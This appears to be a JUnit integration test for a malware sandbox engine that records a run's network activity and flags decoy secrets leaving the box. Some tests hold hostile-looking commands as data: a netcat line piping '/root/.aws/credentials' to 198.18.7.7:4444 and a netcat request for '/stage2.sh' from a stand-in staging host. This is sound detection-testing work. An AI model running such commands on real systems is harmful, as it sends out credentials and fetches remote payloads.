package dev.lazaret.sandbox;

import static org.assertj.core.api.Assertions.assertThat;

import dev.lazaret.behavior.Event;
import dev.lazaret.behavior.Phase;
import dev.lazaret.behavior.Probe;
import dev.lazaret.sinkhole.ServedPage;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** What a run says to the world, and what the world says to it: the real network, all of it. */
@Tag("engine")
final class ObservationNetworkEngineIT {
  private static TestEngine engine;
  private SandboxHost host;

  @BeforeAll
  static void startEngine() throws Exception {
    engine = TestEngine.start();
  }

  @AfterAll
  static void stopEngine() throws Exception {
    if (engine != null) {
      engine.close();
    }
  }

  @BeforeEach
  void open() throws Exception {
    host = engine.open();
  }

  @AfterEach
  void close() {
    host.close();
  }

  private RunResult run(String line) throws InterruptedException {
    var image = BusyboxImage.running(line);
    return host.run(
        new RunRequest(
            "network",
            image.config(),
            image::writeTo,
            Map.of(),
            path -> false,
            RunInputs.NONE,
            RunLimits.DEFAULT.once()),
        phase -> {});
  }

  @Test
  void asksWhatListens() throws Exception {
    var result =
        run(
            "echo hello > /tmp/index.html; trap 'exit 0' TERM; busybox httpd -f -p 8080 -h /tmp &"
                + " wait");

    assertThat(result.networked()).isTrue();
    assertThat(result.trace().reasons()).isEmpty();
    assertThat(result.probes())
        .anyMatch(probe ->
            probe.kind() == Probe.Kind.HTTP
                && probe.port() == 8080
                && probe.answered()
                && probe.answer().contains("200"));
    assertThat(result.events()).anyMatch(event -> event.header().phase() == Phase.PROBE);
  }

  @Test
  void hearsANameAndWhatIsSaidToIt() throws Exception {
    var result =
        run(
            "busybox nslookup stage.example.com; printf 'GET /stage2.sh HTTP/1.0\\r\\nHost:"
                + " stage.example.com\\r\\n\\r\\n' | busybox nc -w 3 192.0.2.77 80");

    assertThat(result.events())
        .anyMatch(
            e -> e instanceof Event.NameAsked asked && asked.name().startsWith("stage.example.com"))
        .anyMatch(e ->
            e instanceof Event.Contacted said
                && said.address().equals("192.0.2.77")
                && said.port() == 80
                && said.protocol().equals("HTTP")
                && said.header().process().argv().contains("nc"));
  }

  @Test
  void knowsADecoyThatLeaves() throws Exception {
    var result = run("busybox nc -w 3 198.18.7.7 4444 < /root/.aws/credentials");

    assertThat(result.events())
        .anyMatch(e ->
            e instanceof Event.DecoySent sent
                && sent.decoy().equals("cloud key")
                && sent.port() == 4444
                && !sent.own());
  }

  @Test
  void makesTheSameEventsOfTheSameEvidence() throws Exception {
    var result = run("busybox nc -w 3 198.18.7.7 4444 < /root/.aws/credentials; busybox mkdir /x");

    var again = EventDecoder.decode(TraceSource.of(result.evidence()), Map.of(), 100_000);

    assertThat(again.events()).isEqualTo(result.events());
    assertThat(again.events())
        .anyMatch(e -> e instanceof Event.PathChanged made && "/x".equals(made.path()));
  }

  @Test
  void servesWhatTheInstallationSays() throws Exception {
    host.close();
    host = engine.open(new ServedPage("/stage/*", 200, "text/plain", "served by the house"));

    var result =
        run("printf 'GET /stage/two HTTP/1.0\\r\\n\\r\\n' | busybox nc -w 3 192.0.2.77 80");

    assertThat(result.end().outputTail()).contains("served by the house");
  }
}
